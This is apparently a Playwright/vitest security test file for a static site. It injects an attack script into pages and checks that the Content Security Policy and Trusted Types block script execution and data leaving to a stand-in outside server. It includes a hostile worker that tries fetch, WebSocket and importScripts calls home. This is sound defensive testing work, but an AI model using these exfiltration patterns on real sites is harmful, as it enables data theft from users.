import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { useBrowser } from '../helpers/browser.ts';
import { chapters } from '../helpers/chapters.ts';
import { dist } from '../helpers/dist.ts';
import { type Stranger, startStranger } from '../helpers/stranger.ts';

// Chromium keeps pages from other hosts on this machine by itself; without that, only the policy is in the way.
const site = useBrowser(dist, '/', ['--disable-features=LocalNetworkAccessChecks']);
const attack = readFileSync(new URL('./attack.js', import.meta.url), 'utf8');
const kinds = ['/', `/${chapters[0]}/`, '/search/', '/errata/', '/settings/', '/404.html'];

let stranger: Stranger;
beforeAll(async () => {
  stranger = await startStranger();
});
afterAll(() => stranger.close());

/** Serves `code` as a script of the site itself, at `/attack.js`. */
async function serveScript(page: Page, code: string): Promise<void> {
  await page.route('**/attack.js', route =>
    route.fulfill({ contentType: 'text/javascript', body: code.replaceAll('STRANGER', stranger.origin) }),
  );
}

/** Opens a page with one more script at its end; the policy in its head stays. */
async function openWith(url: string, code: string, withPolicy = true): Promise<Page> {
  const { page } = await site.open('/about/');
  await serveScript(page, code);
  await page.route(`**${url}`, async route => {
    const response = await route.fetch();
    const html = (await response.text()).replace('</body>', '<script src="/attack.js"></script></body>');
    await route.fulfill({
      response,
      body: withPolicy ? html : html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''),
    });
  });
  await page.goto(new URL(url, site.url()).href, { waitUntil: 'commit' });
  return page;
}

const outcome = (page: Page) =>
  page
    .waitForFunction(() => (globalThis as { attack?: unknown }).attack)
    .then(handle => handle.jsonValue() as Promise<{ results: Record<string, string>; ran: number }>);

test.each(kinds)('on %s nothing foreign runs and nothing leaves', async url => {
  const before = stranger.hits.length;
  const page = await openWith(url, attack);
  const { results, ran } = await outcome(page);
  expect(ran).toBe(0);
  expect(stranger.hits.slice(before)).toEqual([]);
  const refused = Object.fromEntries(
    ['innerHTML', 'insertAdjacentHTML', 'DOMParser', 'document.write', 'worker', 'blob worker'].map(name => [
      name,
      'TypeError',
    ]),
  );
  expect(results).toMatchObject({
    ...refused,
    eval: 'EvalError',
    Function: 'EvalError',
    'new policy': 'TypeError',
    'style attribute': 'blocked',
    'style element': 'STYLE',
    'service worker': 'TypeError',
    import: 'TypeError',
    fetch: 'TypeError',
    base: 'blocked',
  });
  await page.context().close();
});

test('the same attack succeeds without the policy: the test can fail', async () => {
  const before = stranger.hits.length;
  const page = await openWith('/about/', attack.replace(/.*attempt\('form'.*/, ''), false);
  const { ran } = await outcome(page);
  expect(ran).toBeGreaterThan(0);
  expect(stranger.hits.slice(before)).toEqual(
    expect.arrayContaining(['/script', '/fetch', '/beacon', '/image', '/frame']),
  );
  await page.context().close();
});

/** Own code gone bad: it holds the only policy, starts a worker, and the worker calls home. Resolves to what it says. */
const badWorker = (source: string) => `
  const policy = trustedTypes.createPolicy('site', { createScriptURL: address => address });
  const code = ${JSON.stringify(source)};
  const worker = new Worker(policy.createScriptURL(URL.createObjectURL(new Blob([code]))));
  worker.onmessage = ({ data }) => { globalThis.attack = { results: data, ran: 0 }; };`;

test('a worker of a page cannot call home either', async () => {
  const { page } = await site.open('/about/');
  await page.route('**/_assets/*.js', route =>
    route.fulfill({
      contentType: 'text/javascript',
      body: badWorker(`(async () => {
        const say = promise => promise.then(() => 'sent', error => error.name);
        const results = { fetch: await say(fetch('${stranger.origin}/worker-fetch')) };
        try { new WebSocket('${stranger.origin.replace('http', 'ws')}/worker-socket'); } catch {}
        try { importScripts('${stranger.origin}/worker-script'); results.script = 'ran'; }
        catch (error) { results.script = error.name; }
        setTimeout(() => postMessage(results), 300);
      })()`),
    }),
  );
  const before = stranger.hits.length;
  await page.reload();
  const { results } = await outcome(page);
  expect(results['fetch']).toBe('TypeError');
  expect(results['script']).not.toBe('ran');
  expect(stranger.hits.slice(before)).toEqual([]);
  await page.context().close();
});
